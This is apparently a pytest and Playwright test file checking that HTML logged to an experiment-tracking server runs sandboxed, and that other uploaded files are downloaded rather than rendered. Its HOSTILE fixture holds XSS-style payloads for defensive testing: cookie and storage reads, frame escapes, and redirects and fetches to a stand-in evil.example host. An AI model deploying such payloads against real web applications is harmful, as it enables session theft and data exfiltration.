"""What somebody logged as HTML runs in a real browser, and reaches nothing."""

import json
import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as BrowserError

HOSTILE = """<!DOCTYPE html><html><head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/refreshed">
</head><body>
<form id="form" action="/api/v1/ingest" method="post"><input name="x"></form>
<a id="link" target="_top" href="/api/v1/projects">out</a>
<img src="x" onerror="window.seen = 'inline handlers run here'">
<script>
const attempt = async (name, act) => { try { return String(await act()) } catch (error) { return 'refused' } }
;(async () => {
  const told = { origin: self.origin }
  told.fetch = await attempt('fetch', () => fetch(location.origin + '/api/v1/projects'))
  told.foreign = await attempt('foreign', () => fetch('https://evil.example/', { mode: 'no-cors' }))
  told.socket = await attempt('socket', () => new Promise((done, failed) => {
    const socket = new WebSocket(document.URL.replace('http', 'ws').replace(/api.*/, 'api/v1/live'))
    socket.onopen = () => done('open'); socket.onerror = failed
  }))
  told.parent = await attempt('parent', () => { parent.pwned = 1; return parent.document.title })
  told.cookie = await attempt('cookie', () => document.cookie)
  told.storage = await attempt('storage', () => localStorage.length)
  told.popup = await attempt('popup', () => window.open('/api/v1/projects') === null ? 'refused' : 'open')
  told.top = await attempt('top', () => { top.location = 'https://evil.example/'; return 'gone' })
  told.script = await attempt('script', () => new Promise((done, failed) => {
    const made = document.createElement('script')
    made.src = '/assets/x.js'; made.onload = () => done('loaded'); made.onerror = failed
    document.head.append(made)
  }))
  document.getElementById('form').submit()
  document.getElementById('link').click()
  told.base = document.baseURI === 'https://evil.example/' ? 'taken' : 'refused'
  parent.postMessage(told, '*')
})()
</script></body></html>"""

ALL_REFUSED = dict.fromkeys(
    ("fetch", "foreign", "socket", "parent", "cookie", "storage", "popup", "top", "script", "base"), "refused"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>parent.pwned=1</script></svg>'

LISTEN = """(url) => new Promise((heard) => {
  addEventListener('message', (event) => heard({ ...event.data, from: event.origin }))
  const frame = document.createElement('iframe')
  frame.src = url
  document.body.append(frame)
})"""


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture(scope="module")
def logged(server: Any) -> Callable[[str, bytes, str], str]:
    """Return how to log a file by HTTP; the address of its record comes back."""
    server.ingest({"project": "sandbox", "run": "hostile", "step": 0, "loss": 1})
    run = server.ids("sandbox")["hostile"]

    def post(query: str, body: bytes, media_type: str) -> str:
        address = f"{server.url}/api/v1/runs/{run}/media?{query}"
        request = urllib.request.Request(address, body, {"Content-Type": media_type}, method="POST")
        with urllib.request.urlopen(request, timeout=30) as answer:
            return str(server.url + json.load(answer)["url"])

    return post


def test_a_script_in_logged_html_runs_in_an_origin_that_is_nobodys(
    page: Page, server: Any, logged: Callable[[str, bytes, str], str]
) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    url = logged("key=report", HOSTILE.encode(), "text/html") + "/frame"
    page.goto(server.url)
    told = page.evaluate(LISTEN, url)
    assert told == {"origin": "null", "from": "null", **ALL_REFUSED}
    assert page.evaluate("typeof pwned") == "undefined"
    assert page.url.rstrip("/").startswith(server.url)
    assert [each for each in asked if "evil.example" in each] == []


def test_the_sandbox_holds_where_the_document_is_opened_by_its_address(
    page: Page, logged: Callable[[str, bytes, str], str]
) -> None:
    url = logged("key=alone", b"<script>document.title = origin</script>", "text/html") + "/frame"
    answer = page.goto(url)
    assert answer is not None
    assert answer.headers["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none'")
    page.wait_for_function("document.title === 'null'")


@pytest.mark.parametrize(
    ("name", "body", "media_type"),
    [
        ("a.svg", SVG, "image/svg+xml"),
        ("a.html", b"<script>document.title=1</script>", "text/html"),
        ("a.md", b"<script>document.title=1</script>", "text/markdown"),
        ("a.xml", b"<?xml version='1.0'?><x/>", "text/xml"),
    ],
)
def test_a_logged_file_is_downloaded_and_never_shown(
    page: Page, logged: Callable[[str, bytes, str], str], name: str, body: bytes, media_type: str
) -> None:
    url = logged(f"key=files/{name}&name={name}", body, media_type) + "/data"
    with page.expect_download() as download, pytest.raises(BrowserError, match="Download is starting"):
        page.goto(url)
    assert download.value.path().read_bytes() == body
